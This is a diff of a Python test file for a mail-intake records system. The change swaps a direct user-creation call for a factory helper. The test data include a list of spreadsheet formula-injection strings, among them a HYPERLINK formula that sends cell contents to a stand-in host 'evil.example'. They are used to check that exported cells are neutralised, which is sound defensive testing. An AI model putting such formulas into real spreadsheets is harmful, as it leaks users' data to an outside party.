@@ -17,7 +17,7 @@ from mailintake.records.registry import RegistrationRequest
 from mailintake.records.spreadsheet import FORMULA_STARTS, text_cell
 from mailintake.services import Services
 
-from .factories import stored_message
+from .factories import make_user, stored_message
 
 SOUMU = "soumu@city.example.jp"
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81-3-1234", "-2+3", "@SUM(A1)", "\t=1", "＝１＋１"]
@@ -35,7 +35,7 @@ def test_text_cell_neutralises_every_formula_start_and_leaves_the_rest() -> None
 
 
 def test_the_receipt_book_and_the_audit_log_carry_hostile_text_as_text(services: Services, designated: str) -> None:
-    clerk = services.accounts.add_user("sato", password=None, role="system_admin", sections=["総務課"])
+    clerk = make_user(services, "sato", password=None, role="system_admin", sections=["総務課"])
     ids = [stored_message(services, SOUMU, subject=s) for s in HOSTILE]
     services.registry.register(
         clerk,
